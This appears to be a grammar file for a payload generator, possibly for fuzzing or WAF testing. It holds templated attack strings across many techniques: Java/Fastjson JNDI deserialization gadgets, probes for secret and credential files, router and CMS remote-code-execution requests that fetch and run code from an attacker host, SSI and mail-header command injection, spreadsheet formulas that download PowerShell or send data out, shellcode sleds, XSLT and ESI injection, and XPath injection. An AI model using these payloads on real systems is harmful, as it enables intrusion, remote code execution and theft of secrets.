        <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">«¦<dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">»
        <value><ex:serializable xmlns:ex="http://ws.apache.org/xmlrpc/namespaces/extensions">rO0AB«b64run»</ex:serializable></value>
        <beans xmlns="http://www.springframework.org/schema/beans"><bean id="pb" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>«sh¦bash¦cmd»</value><value>-c</value><value>«shellcmd»</value></list></constructor-arg></bean></beans>
        §jsonobject
        4× {«¦"«letter»":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"«letter»":{»"@type":"«fastclass»","dataSourceName":"«ldap¦rmi»://«evilhost»«¦:«port»»/«rand»","autoCommit":true}
        {"@type":"«fastclass»"«¦,"«val¦url¦_bytecodes¦host¦JNDI»":"««evilhost»¦«evilurl»¦yv66vgAAADQ«b64run»»"»}
        ["«com.sun.rowset.JdbcRowSetImpl¦ch.qos.logback.core.db.JNDIConnectionSource¦org.springframework.context.support.ClassPathXmlApplicationContext¦com.mchange.v2.c3p0.JndiRefForwardingDataSource¦ch.qos.logback.core.db.DriverManagerConnectionSource»",{"«dataSourceName¦jndiName¦jndiLocation¦url»":"«ldap://«evilhost»/«rand»¦jdbc:h2:mem:;INIT=RUNSCRIPT FROM '«evilurl»'»"}]
        {"@class":"«javaclass»","«word»":"«rand»"}
        {"rand1":{"@type":"java.net.«Inet4Address¦InetSocketAddress¦URL»","val":"«oasthost»"}}
        {"class":"«javaclass»","«word»":"«shellcmd→json»"}
        §fastclass
        «com.sun.rowset.JdbcRowSetImpl¦com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl¦org.apache.tomcat.dbcp.dbcp2.BasicDataSource¦java.lang.AutoCloseable¦org.apache.ibatis.datasource.jndi.JndiDataSourceFactory¦java.net.Inet4Address¦Lcom.sun.rowset.JdbcRowSetImpl;¦[com.sun.rowset.JdbcRowSetImpl¦LLcom.sun.rowset.JdbcRowSetImpl;;¦oracle.jdbc.connector.OracleManagedConnectionFactory¦org.apache.commons.configuration.JNDIConfiguration¦com.zaxxer.hikari.HikariConfig¦java.lang.Exception»

        ¶ ---- paths and requests of scanners ----
        §scanner
        5× /«hidden»
        4× /«adminpath»
        4× /«backupfile»
        3× /«cgipath»
        4× /«appprobe»
        2× /«cms»
        2× /«word»/«hidden»
        «agents»
        2× «debugparam»
        §hidden
        4× .git/«config¦HEAD¦index¦logs/HEAD¦refs/heads/master¦objects/¦description¦COMMIT_EDITMSG¦packed-refs¦info/exclude¦FETCH_HEAD»
        4× .env«¦.bak¦.local¦.production¦.dev¦.old¦.save¦.example¦.backup¦.swp¦~¦.prod¦.staging¦.txt¦.1»
        2× .«svn/entries¦svn/wc.db¦hg/hgrc¦hg/store/00manifest.i¦bzr/branch-format¦CVS/Entries¦DS_Store»
        2× .«aws/credentials¦aws/config¦ssh/id_rsa¦ssh/authorized_keys¦ssh/known_hosts¦docker/config.json¦dockercfg¦kube/config¦npmrc¦pypirc¦netrc¦pgpass¦my.cnf¦bash_history¦bashrc¦mysql_history¦profile¦zsh_history¦gitconfig¦git-credentials¦gitlab-ci.yml¦travis.yml¦htpasswd¦htaccess¦user.ini¦idea/workspace.xml¦vscode/sftp.json¦ftpconfig¦s3cfg¦boto¦config/gcloud/credentials.db¦terraform/terraform.tfstate¦circleci/config.yml¦dbshell»
        «CVS/Root¦Thumbs.db¦WEB-INF/web.xml¦META-INF/context.xml¦WS_FTP.LOG¦sftp-config.json¦id_rsa¦server.key¦credentials.json¦secrets.yml¦docker-compose.yml¦Dockerfile¦config/database.yml¦composer.lock¦wp-config.php.bak¦config.inc.php~¦web.config.bak¦appsettings.Production.json¦terraform.tfstate¦phpunit.xml¦Jenkinsfile¦Vagrantfile¦npm-debug.log¦crossdomain.xml¦dump.rdb¦key.pem¦privatekey.key»
        §adminpath
        3× wp-«login.php¦admin/¦admin/admin-ajax.php?action=«rand»¦admin/install.php¦admin/setup-config.php¦config.php«.bak¦~¦.swp¦.old¦.txt¦.save»¦json/wp/v2/users«¦/1»¦content/debug.log¦content/plugins/«rand»/readme.txt¦includes/wlwmanifest.xml¦cron.php¦signup.php¦trackback.php»
        2× «phpmyadmin¦phpMyAdmin¦pma¦PMA¦myadmin¦mysql¦dbadmin¦sqlmanager¦phpMyAdmin-«#2-5».«#0-9».«#0-9»¦mysqladmin¦adminer.php¦adminer-4.«#1-9».«#0-9».php¦pgadmin4¦phppgadmin»/«¦index.php¦scripts/setup.php¦server_import.php»
        2× actuator«¦/env¦/heapdump¦/health¦/mappings¦/gateway/routes¦/jolokia¦/loggers¦/threaddump¦/trace¦/configprops¦/beans¦/httptrace¦/shutdown¦/logfile¦;/env»
        2× «manager/html¦manager/text/list¦host-manager/html¦jmx-console/¦web-console/Invoker¦invoker/JMXInvokerServlet¦console/login/LoginForm.jsp¦wls-wsat/CoordinatorPortType¦_async/AsyncResponseService¦jenkins/script¦script¦solr/admin/cores?wt=json¦druid/index.html¦nacos/v1/auth/users?pageNo=1&pageSize=9¦axis2/axis2-admin/¦hudson/script¦jolokia/list¦swagger/v1/swagger.json¦v2/api-docs¦graphql?query={__schema{types{name}}}»
        «admin¦administrator¦admin1¦cpanel¦webadmin¦sysadmin¦adm¦siteadmin¦controlpanel»«/login.«php¦asp¦jsp¦aspx»¦.php¦/config.php¦/backup/¦/phpinfo.php»
        «server-status¦server-info¦nginx_status¦status?full¦phpinfo.php¦info.php¦test.php¦php.php¦i.php¦_profiler/phpinfo¦app_dev.php/_profiler/open?file=app/config/parameters.yml¦debug/default/view?panel=config¦elmah.axd¦trace.axd¦_ignition/execute-solution¦telescope/requests¦horizon/dashboard¦debug/pprof/heap¦__debug__/¦rails/info/properties¦_cat/indices¦_all_dbs¦_search?pretty»
        «boaform/admin/formLogin¦HNAP1/¦goform/«rand»¦cgi-bin/luci¦setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=«shellcmd→plus»¦GponForm/diag_Form?images/¦shell?cd+/tmp;rm+-rf+*;wget+«evilurl»;sh+/tmp/«rand»¦language/Swedish${IFS}&&«shellcmd→ifs»¦tmUnblock.cgi¦hedwig.cgi¦apply.cgi¦currentsetting.htm¦remote/login?lang=en¦dana-na/auth/url_default/welcome.cgi¦vpn/../vpns/cfg/smb.conf¦+CSCOE+/logon.html¦owa/auth/x.js¦autodiscover/autodiscover.json?@«evilhost»/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@«evilhost»¦ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application¦mgmt/tm/util/bash¦tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=«unixfile»¦sdk/../../../../«unixfile»¦webtools/control/xmlrpc¦cgi-bin/viewcert¦nice%20ports,/Trinity.txt.bak¦HelpController¦evox/about¦sdk¦portal/redlion¦.well-known/security.txt%00»
        §backupfile
        3× «backup¦site¦www¦web¦db¦dump¦data¦database¦wwwroot¦html¦old¦public_html¦backup_«#2015-2025»¦bak¦sql¦mysql¦«word»_backup¦users¦localhost¦htdocs¦source¦website».«zip¦tar.gz¦sql¦rar¦tgz¦7z¦bak¦sql.gz¦tar¦bz2¦mdb¦sqlite¦war»
        2× «index¦config¦login¦settings¦database¦db¦conn¦configuration¦main¦admin».«php¦asp¦jsp¦aspx¦inc».«bak¦old¦swp¦save¦orig¦txt¦copy¦1¦backup¦tmp¦dist»
        .«index¦config¦login¦settings¦wp-config».php.sw«p¦o¦n»
        «index¦config¦login¦web»«.php~¦.php_bak¦.config.old¦.jsp%20¦.php.~1~¦ (copy).php¦.asp::$DATA¦.php%00»
        «Copy of¦Copy_(1)_of_»%20«index.php¦config.asp»
        #«index.php#¦config.php#»
        §cgipath
        3× cgi-bin/«test-cgi¦printenv¦php¦php-cgi¦status¦test.cgi¦awstats.pl¦formmail.pl¦phf?Qalias=x%0a/bin/cat%20«unixfile»¦bash¦sh¦admin.cgi¦htsearch?-c«unixfile»¦nph-test-cgi?*¦count.cgi¦webdist.cgi¦finger?«word»¦php5¦guestbook.pl¦wwwboard.pl¦env.cgi¦.%2e/.%2e/.%2e/bin/sh¦%%32%65%%32%65/bin/sh¦authLogin.cgi¦kerbynet¦ViewLog.asp¦cgiServer.exx»
        scripts/«..%c0%af../winnt/system32/cmd.exe?/c+dir¦root.exe?/c+dir¦iisadmin/ism.dll¦tools/newdsn.exe¦samples/search/queryhit.htm¦..%255c..%255cwinnt/system32/cmd.exe?/c+dir»
        «_vti_bin/shtml.dll¦_vti_bin/owssvr.dll¦_vti_pvt/service.pwd¦_vti_inf.html¦iissamples/exair/search/advsearch.asp¦msadc/msadcs.dll¦MSADC/root.exe?/c+dir¦default.ida?«letter*20-60»%u9090%u6858¦null.htw¦iisadmpwd/aexp.htr¦sumthin¦perl/-e%20print%20Hello¦cfide/administrator/index.cfm¦CFIDE/componentutils/¦servlet/SnoopServlet¦examples/jsp/snp/snoop.jsp¦lcds-samples/testdrive.htm»
        «cgi-sys¦cgi¦cgi-bin¦cgi-local¦cgis¦htbin¦cgi-win»/««word»¦«rand»».«cgi¦pl¦sh¦exe»«?«shellcmd→plus»¦?|«shellcmd→plus»|¦»
        ?-«s¦d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input¦n+-d+allow_url_include%3don»
        §appprobe
        3× «¦vendor/¦lib/¦laravel/vendor/¦www/vendor/¦api/vendor/¦backup/vendor/¦workspace/drupal/vendor/¦yii/vendor/¦zend/vendor/»phpunit/«phpunit/¦¦phpunit/src/»«src/¦¦Util/»Util/PHP/eval-stdin.php
        2× «?s=¦index.php?s=/Index/»\think\app/invokefunction&function=call_user_func_array&vars[0]=««phpsys»¦md5»&vars[1][]=«shellcmd→plus»
        index.php?s=«captcha¦/index/\think\Request/input&filter=«phpsys»&data=«shellcmd→plus»¦index/think\config/get&name=database.username»
        index.php?lang=../../../../../../../../«unixfile»
        index.php?option=com_«rand»&view=«rand»&«param»=«../../../../..¦-1+union+select+1,2,3»
        user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax
        «?q=user/password&name[%23post_render][]=«phpsys»&name[%23type]=markup&name[%23markup]=«shellcmd→plus»»
        _ignition/execute-solution
        api/jsonws/invoke
        struts2-showcase/«rand».action
        «login¦index¦«word»».action?redirect:${«num»*«num»}
        cgi-bin/«rand».cgi?cmd=«shellcmd→plus»
        «console/css/%252e%252e%252fconsole.portal?_nfpb=true¦seeyon/htmlofficeservlet¦yyoa/common/js/menu/test.jsp?doType=101&S1=«rand»¦weaver/bsh.servlet.BshServlet¦general/login_code.php¦ispirit/interface/gateway.php¦UtilServlet¦ucenter/uc_key¦data/plus/«rand».inc.php¦plus/mytag_js.php?aid=«#1-9999»¦e/data/ecmseditor/infoeditor/epage/TranFile.php»
        plugins/servlet/«gadgets/makeRequest?url=«evilurl»¦oauth/users/icon-uri?consumerUri=«evilurl»»
        «¦_»api/v«#1-3»/«pods¦namespaces¦totp/user-backup-code/../../system/system-information¦targets»
        securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=«rand»
        «containers/json¦v1.«#10-41»/containers/create¦images/json¦v2/_catalog¦v1/agent/self¦v2/keys/?recursive=true»
        «rand»«404¦».«php¦asp¦cfm¦jsp»?«<script>alert(1)</script>¦-->">'>'"»
        «letter*8-12»test.«php¦jsp¦txt¦html»
        «druid/indexer/v1/sampler¦ws/v1/cluster/apps/new-application¦jars/upload¦jobmanager/config¦v1/submissions/create¦api/experimental/test¦_users/org.couchdb.user:«word»¦_config/query_servers/cmd¦_node/_local/_config»
        §cms
        wp-content/plugins/««rand»¦revslider¦wp-file-manager¦«rand»-«rand»¦duplicator»/«lib/php/connector.minimal.php¦temp/update_extract/revslider/«rand».php¦readme.txt¦download.php?file=../../../wp-config.php¦includes/«rand».php?«param»=«evilurl»¦admin/«rand».php¦upload.php¦timthumb.php?src=«evilurl»»
        wp-admin/admin-ajax.php?action=«revslider_show_image&img=../wp-config.php¦duplicator_download&file=..%2Fwp-config.php¦«rand»&«param»=«evilurl»»
        xmlrpc.php«¦?rsd»
        <methodCall><methodName>«system.multicall¦wp.getUsersBlogs¦pingback.ping¦system.listMethods»</methodName><params>«¦<param><value><string>«evilurl»</string></value></param>»</params></methodCall>
        ?author=«#1-20»
        «administrator/manifests/files/joomla.xml¦components/com_«rand»/¦index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,concat(0x7e,version()),1)¦CHANGELOG.txt¦sites/default/settings.php¦misc/ajax.js¦typo3conf/localconf.php¦downloader/index.php¦app/etc/local.xml¦RELEASE_NOTES.txt¦bitrix/admin/index.php¦user/login?destination=«evilhost»¦modules/mod_simplefileuploadv1.3/elements/udd.php¦magmi/web/magmi.php¦umbraco/webservices/codeEditorSave.asmx¦sitecore/shell/sitecore.version.xml¦telerik.web.ui.webresource.axd?type=rau»
        §agents
        «sqlmap/1.«#0-8».«#0-20»#«stable¦dev» (http«s¦»://sqlmap.org)¦Nikto/2.«#1-5».«#0-9»¦Mozilla/5.00 (Nikto/2.1.«#0-9») (Evasions:None) (Test:«#100000-999999»)¦Nmap Scripting Engine¦Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)¦masscan/1.«#0-3» (https://github.com/robertdavidgraham/masscan)¦zgrab/0.x¦Nuclei - Open-source project (github.com/projectdiscovery/nuclei)¦WPScan v3.«#1-9».«#0-20» (https://wpscan.com/wordpress-security-scanner)¦DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)¦gobuster/3.«#0-6»¦Fuzz Faster U Fool v«#1-2».«#0-5».«#0-9»-dev¦Wfuzz/«#2-3».«#0-4»¦Acunetix-«rand»¦() { :;}; /bin/bash -c "«shellcmd»"¦() { :; }; echo; «shellcmd»¦w3af.org¦Arachni/v1.«#0-6»¦dirsearch/0.«#3-5».«#0-9»¦hydra/9.«#0-5»¦Mozilla/4.0 (Hydra)¦feroxbuster/2.«#0-9».«#0-9»¦OpenVAS-VT «#20-23».«#1-9».0¦Havij¦ZmEu¦Morfeus Fucking Scanner¦muieblackcat¦jorgee¦netsparker-«rand»¦Paros/3.2.13¦whatweb/0.5.«#0-9»¦commix/v3.«#0-9»-stable¦XSStrike¦Hello, World¦libwww-perl/6.«#10-60»«¦ <?php system('id');?>»¦AppScan¦burpcollaborator¦Qualys WAS»
        §debugparam
        «?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000¦?=PHPE9568F3«4¦5¦6»-D428-11d2-A769-00AA001ACF42¦?XDEBUG_SESSION_START=phpstorm¦?phpinfo=-1¦?debug=1&cmd=«shellcmd→plus»¦?GLOBALS[«word»]=«num»¦?_SERVER[DOCUMENT_ROOT]=«evilurl»¦?PHPRC=/dev/fd/0¦?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input¦?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input¦;sleep+«#1-9»;¦?page=admin&admin=true&debug=true¦?test=../../../../«unixfile»»

        ¶ ---- XPath and XQuery ----
        §xpath
        5× «xq» «or¦and¦or¦or» «xtrue»«xtail»
        4× «xq» «or¦and» «xfn»«xtail»
        3× «word»«xq»]«xmore»
        2× «xq»] | //*«¦[«xtrue»]¦/«word»» | //«word»[«xq»«xq»=«xq»
        2× «num» «or¦and» «xfn»
        2× «xq» «or¦and» «xfn»«xcmp»«num» «or¦and» «xq»«letter»«xq»=«xq»«letter»
        «xq»)] | //««word»¦*¦user/*¦node()¦password¦text()»[contains(«letter»,«xq»«letter»
        «xq») or «xtrue» or («xq»«letter»«xq»=«xq»
        /*«¦/*¦[«#1-3»]¦/*[1]/*[«#1-3»]»/«text()¦node()¦@*¦child::node()»
        //««word»¦*¦user¦users¦password¦account»«/text()¦/node()¦[position()=«#1-9»]/child::node()[position()=«#1-9»]/text()¦/@*¦[name()='«word»']¦[1]»
        «xfn»
        «num»] | //*
        x' or «name()='«word»'¦position()=«#1-9»¦last()¦1]/*[1¦1=1» or 'x'='y
        '«¦]» | //«user/*¦*/*¦password»[«1¦'1'='1'»] | a[«¦'1'='1»
        «xq»«]¦)]¦»/«¦parent::*¦ancestor::*¦../*¦preceding-sibling::*¦following::*¦descendant::*»«/node()¦[1]¦»
        for $«letter» in doc("««unixfile»¦«evilurl»»")«//*¦» return $«letter»
        «xq» and «count¦string-length»(/«*¦«word»»«¦/*»)«xcmp»«num» and «xq»1«xq»=«xq»1
        §xq
        5× '
        3× "
        «word»'
        «')¦"]¦']¦%27»
        §xtrue
        3× '$n'='$n
        2× '«$n:letter»'='«$n»
        2× '1'='1
        «$n:num»=«$n»
        true()
        ''='
        "«$n:letter»"="«$n»
        not(false())
        1=1
        'a'='a' or 'a'='a
        §xfn
        3× count(«/¦//»«*¦«word»¦«user¦users¦account¦child»»«¦/*¦/@*¦[1]»)«xcmp»«num»
        3× string-length(«name(«/*[1]¦/*¦parent::*»)¦//«user¦«word»»[«#1-9»]/«child::node()[«#1-9»]¦password¦text()»¦//*[1]¦/*[1]/*[1]»)«xcmp»«num»
        3× substring(«name(/*[1])¦//«user¦«word»»[«#1-9»]/«password¦child::node()[«#1-9»]¦text()»¦//*[1]/text()¦(//*)[«#1-9»]»,«#1-30»,1)='«letter»'
        2× «starts-with¦contains¦ends-with»(«name()¦//«word»/text()¦.¦@«word»», '«letter»')
        2× codepoints-to-string(«#97-122»)=substring(«name(/*)¦//«word»[1]/text()»,«#1-20»,1)
        doc«-available¦»(concat("http://«evilhost»/«¦?x=»",«/*[1]/*[1]/text()¦name(/*)¦encode-for-uri(/*[1])»))
        doc('««evilurl»¦file://«unixfile»»')
        «position()=«#1-9»¦last()=«#1-9»¦name()='«word»'¦local-name()='«word»'¦namespace-uri()=''»
        unparsed-text('«unixfile»')
        normalize-space(//«word»)='«word»'
        translate(name(/*),'«letter»','')='«word»'
        boolean(//«word»)
        system-property('xsl:vendor')
        collection('«word»')
        §xcmp
        «=¦>¦<¦!=¦>=»
        §xtail
        4×
        2× ␠or ''='
        «]¦)]¦'¦ and '1'='1¦ or 'a'='b¦%00¦(:¦ or 1=1]|//*¦] | //*[¦")]»
        §xmore
        /«child::*¦*¦parent::node()¦../*»«¦[1]»«¦|a['»
        |//«word»|//a['
        [«xfn»]
        %00

        ¶ ---- server-side includes ----
        §ssi
        5× «ssilead»<!--#exec cmd="«shellcmd»"«ssiend»
        2× <!--#exec cgi="«/cgi-bin/«rand».cgi¦«shellcmd»»"«ssiend»
        3× <!--#include «virtual¦file»="««unixfile»¦«../¦/»«word».«html¦log¦php»¦../../../../«unixfile→norootslash»»"«ssiend»
        3× <!--#echo var="«DATE_LOCAL¦DOCUMENT_NAME¦DATE_GMT¦HTTP_USER_AGENT¦DOCUMENT_URI¦REMOTE_ADDR¦SERVER_SOFTWARE¦AUTH_TYPE¦PATH_TRANSLATED¦HTTP_COOKIE¦«rand→upper»»"«ssiend»
        <!--#printenv«ssiend»
        <!--#«config timefmt="%A"¦config errmsg="«rand»"¦fsize file="«unixfile»"¦flastmod file="«word».html"¦set var="«word»" value="`«shellcmd»`"¦if expr="$«rand» = 1"¦exec cmd='«shellcmd»'»«ssiend»
        <!--#exec cmd=«shellcmd»«ssiend»
        <!--# «exec cmd¦include virtual¦echo var»="«shellcmd»"«ssiend»
        <!--#«execlit→case» «cmdlit→case»="«shellcmd»"«ssiend»
        «ssicore→url»
        «word»<!--#exec cmd="«shellcmd»"«ssiend»«word»
        <pre><!--#exec cmd="«shellcmd»" --></pre>
        "><!--#exec cmd="«shellcmd»"«ssiend»<
        {"«param»":"<!--#exec cmd=\"«shellcmd→json»\" -->"}
        «param»=<!--#exec cmd="«shellcmd»"«ssiend»
        §execlit
        exec
        §cmdlit
        cmd
        §ssicore
        <!--#exec cmd="«shellcmd»" -->
        §ssilead
        6×
        "
        '>
        «word»
        §ssiend
        4× -->
        4× ␠-->
        >
        «¦--»

        ¶ ---- mail headers and commands ----
        §mail
        6× «mailaddr»«nlpart»«mailheader»
        2× «mailaddr»«nlpart»«mailheader»«nlpart»«mailheader»
        2× «mailaddr»«nlpart»«mailheader»«nlpart»«nlpart»«word» «word»
        «mailaddr»«nlpart»«nlpart».«nlpart»«MAIL FROM¦RCPT TO»:«¦ »<«mailaddr»>«nlpart»«RCPT TO:<«mailaddr»>¦DATA»
        «nlpart»«MAIL FROM¦RCPT TO¦VRFY¦EXPN¦HELO¦DATA¦RSET¦QUIT»«:¦ »<«mailaddr»>
        «word»«nlpart»«V«#100-999» ¦A«#100-999» ¦»«CAPABILITY¦FETCH 1 BODY[TEXT]¦NOOP¦LOGOUT¦SELECT INBOX¦LIST "" *¦STATUS INBOX (MESSAGES)»
        "«nlpart»V«#100-999» «CAPABILITY¦NOOP¦LOGOUT»«nlpart»V«#100-999» FETCH «#1-9999»
        «word»" -OQueueDirectory=/tmp -X/var/www/html/«rand».php "@«evilhost»
        "«word»\" -oQ/tmp/ -X/var/www/«rand».php  «word»"@«evilhost»
        «mailaddr» -«X/tmp/«rand»¦be ${run{«shellcmd»}}¦C/etc/passwd»
        «word»(tmp1 -be ${run{${substr{0}{1}{$spool_directory}}bin${substr{0}{1}{$spool_directory}}«word»}} tmp2)
        «mailaddr→url»«nlpart»«mailheader→url»
        «param»=«mailaddr»«nlpart»«mailheader»
        ${run{«shellcmd»}}@«evilhost»
        §mailaddr
        3× «word»@«word».com
        «word»@«evilhost»
        «word»
        «num»
        §mailheader
        5× «Bcc¦bcc¦Cc¦CC¦cc¦To¦BCC»:«¦ ¦%20»«mailaddr»«¦,«mailaddr»»
        2× Subject:«¦ ¦%20»«word»
        2× Content-Type:«¦ ¦%20»«text/html¦multipart/mixed; boundary=«rand»;¦text/plain»
        From:«¦ ¦%20»«mailaddr»
        Reply-To:«¦ »«mailaddr»
        MIME-Version: 1.0
        X-Mailer: «rand»
        Content-Transfer-Encoding: base64

        ¶ ---- formulas in exported tables ----
        §formula
        5× «eq»cmd|'«/C¦/c¦ /C» «wincmd»'!«A0¦A1¦'A1'¦_xlbgnm.A1»
        3× «eq»HYPERLINK("«evilurl»«¦?x="&A1&"»","«word»«¦ «word»»")
        2× «eq»«IMPORTXML¦IMPORTDATA¦IMPORTFEED¦IMPORTHTML¦WEBSERVICE¦IMAGE¦IMPORTRANGE»(«CONCAT("http://«evilhost»/?«letter»=",«A1:B9¦CONCATENATE(A2:E2)»)¦"«evilurl»"¦CONCAT("http://«evilhost»/«rand».txt?v=", CONCATENATE(A1:A99)),"//«letter»"»)
        2× «eq»«SUM(1+1)*¦1+1+¦10+20+¦2+5+¦AAAA+BBBB-CCCC&"«word»"/12345&¦ ¦A1+»cmd|'/«c¦C» «wincmd»'!A0
        «eq»rundll32|'URL.dll,OpenURL calc.exe'!A
        «eq»«MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c «wincmd»'!''¦DDE("cmd","/C «wincmd»","«rand»")¦DDE("server";"file";"item";"mode")¦'file://«unixfile»'#$«word».A1¦EXEC("«wincmd»")¦CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"«evilurl»","C:\Users\Public\«rand».exe",0,0)¦FORMULA.FILL("«rand»",A1)»
        "«eq»cmd|'/c «wincmd»'!A1"
        «word»,«eq»cmd|'/C «wincmd»'!A0
        "«word»";«eq»HYPERLINK("«evilurl»")
        DDEAUTO «c:\\windows\\system32\\»cmd.exe "/«k¦c» «wincmd»"
        %0A«eq»cmd|'/C «wincmd»'!A0
        ;«eq»cmd|'/C «wincmd»'!A0
        §eq
        5× =
        2× @
        2× +
        2× -
        «@SUM(1+1)*¦=-¦=+¦␉=¦%0D=¦ =¦＝»
        §wincmd
        4× «calc¦calc.exe¦notepad¦ping «ip»¦nslookup «oasthost»¦whoami»
        powershell IEX(«wget¦New-Object Net.WebClient».«DownloadString('«evilurl»')¦»)
        powershell.exe -«w hidden ¦NoP »$e=(New-Object System.Net.WebClient).DownloadString('«evilurl»');powershell -e $e
        «shellcmd»

        ¶ ---- format strings, long runs, numbers at the edge ----
        §format
        4× «fmt*2-14»
        2× «word»«fmt*2-8»
        %«#1-400»$«x¦s¦n¦p¦hn¦lx¦hhn¦08x»«¦%«#1-400»$«x¦s¦n¦hn»»
        %«#100-9999999»«d¦x¦s¦n¦c¦u»«¦%n¦%hn»
        %.«#100-16777215»«d¦x¦f»
        %«s%s%s%s%s%s%s%s¦n%n%n%n%n%n%n%n%n%n¦p%p%p%p%p%p%p¦x%x%x%x%x%x%x%x¦d%d%d%d%d%d%d»«fmt*0-6»
        \x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»%«#1-99»$«n¦x¦hn»
        AAAA«fmt*3-12»
        {0.__class__.__«init__.__globals__¦mro__¦dict__»«¦[«word»]»}
        {«word».__class__.__init__.__globals__«¦[«app¦config¦SECRET_KEY»]»}
        {0«.__class__¦!r:«num»¦:«#1000-99999999»d»}«¦{1}»
        %(«word»)s%(«word»)«d¦n»
        «$f:fmtone»«$f»«$f»
        %25«n¦s¦x¦p»%25«n¦s¦x¦p»%25«n¦s¦x¦p»«¦%25«n¦s¦x¦p»»
        §fmtone
        %«s¦n¦x¦p»%«s¦n¦x¦p»%«s¦n¦x¦p»
        §fmt
        5× %s
        5× %x
        4× %n
        3× %p
        2× %d
        2× %08x«¦.»
        %«#1-9»$«x¦s¦n»
        %.«#10-9999»d
        %«c¦i¦o¦u¦e¦f¦g¦a¦hn¦hhn¦lx¦ls¦llu¦#x¦#1234d¦99999999999s¦.1024d¦5000c»
        §overflow
        3× «bigrun»
        «word»=«bigrun»
        «sled*4-24»«¦\xcc\xcc¦\xeb\x1f\x5e¦\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e»
        %u9090%u9090«¦%u6858¦%u«hexdigit*4»%u«hexdigit*4»%u«hexdigit*4»»«sledu*1-10»
        \x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3«sled*0-6»
        «bigrun»%«n%n¦s%s¦c0%af¦00¦u9090%u«hexdigit*4»»
        «bigrun»«\x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»\x«hexdigit*2»¦BBBBCCCC¦%«hexdigit*2»%«hexdigit*2»%«hexdigit*2»%«hexdigit*2»»
        §sled
        5× \x90
        \x«hexdigit*2»
        §sledu
        2× %u9090
        %u«hexdigit*4»
        §bigrun
        4× «a16*6-40»
        «x16*6-30»
        «b16*6-30»«¦«a16*2-9»»
        «cyclic*20-80»
        §a16
        AAAAAAAAAAAAAAAA
        §b16
        «BBBBBBBBBBBBBBBB¦CCCCCCCCCCCCCCCC»
        §x16
        «xxxxxxxxxxxxxxxx¦%41%41%41%41%41%41%41%41¦\x41\x41\x41\x41\x41\x41¦AAAA%x%x%x%n¦aaaaaaaaaaaaaaaa»
        §cyclic
        «A¦B»«a¦b¦c¦d»«#0-9»

        ¶ ---- XSLT, ESI, LaTeX, GraphQL, tokens, smuggling ----
        §xslt
        3× <xsl:value-of select="«system-property('xsl:«version¦vendor¦vendor-url»')¦php:function('«phpsys»','«shellcmd»')¦document('«unixfile»')¦Runtime:exec(Runtime:getRuntime(),'«shellcmd»')¦user:xml()¦unparsed-text('«unixfile»')¦jv:exec(jv:getRuntime(),'«shellcmd»')»"/>
        2× <?xml version="1.0"?><xsl:stylesheet version="«1¦2».0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" «xmlns:php="http://php.net/xsl"¦xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"¦xmlns:msxsl="urn:schemas-microsoft-com:xslt"¦xmlns:date="http://xml.apache.org/xalan/java/java.util.Date"»><xsl:template match="/">«<xsl:value-of select="php:function('«phpsys»','«shellcmd»')"/>¦<xsl:variable name="rtobject" select="rt:getRuntime()"/><xsl:variable name="p" select="rt:exec($rtobject,'«shellcmd»')"/>¦<xsl:copy-of select="document('«unixfile»')"/>»</xsl:template></xsl:stylesheet>
        <msxsl:script language="«C#¦JScript¦VB»" implements-prefix="user"><![CDATA[public string «word»(){System.Diagnostics.Process.Start("cmd.exe","/c «shellcmd»");return "";}]]></msxsl:script>
        <xsl:«include¦import» href="«evilurl»"/>
        <exsl:document href="«/var/www/html/«rand».php¦file://«rand»¦«unixfile»»" method="text">««phpcode»¦«rand»»</exsl:document>
        <xsl:result-document href="«rand».«php¦jsp»">«rand»</xsl:result-document>
        §esi
        3× <esi:include src="««evilurl»¦http://«evilhost»/?«letter»=$(HTTP_COOKIE)¦http://127.0.0.1/«word»»"«¦ stylesheet="«evilurl»"¦ alt="«evilurl»" onerror="continue"»«/>¦ />¦>»
        2× <esi:vars>$(«HTTP_COOKIE¦HTTP_HOST¦HTTP_USER_AGENT¦QUERY_STRING»)</esi:vars>
        «word»<!--esi-->«word»
        <!--esi «$(HTTP_COOKIE)¦<esi:include src="«evilurl»"/>¦$add_header('Location','«evilurl»')¦/«rand»/» -->
        <esi:«assign name="«word»" value="'«<script>alert(1)</script>¦«rand»»'"¦debug¦remove¦try¦inline name="/«word».html" fetchable="yes"¦eval src="«evilurl»" dca="none"¦comment text="«rand»"¦invalidate»/>
        <scr<!--esi-->ipt>aler<!--esi-->t(1)</sc<!--esi-->ript>
        <esi:vars name="$(HTTP_COOKIE«{«word»}¦{'JSESSIONID'}»)"/>
        «esiinc→url»
        §esiinc
        <esi:include src="«evilurl»"/>
        §latex
        3× \«input¦include¦lstinputlisting¦verbatiminput¦includegraphics¦inputminted¦InputIfFileExists»{«unixfile»}
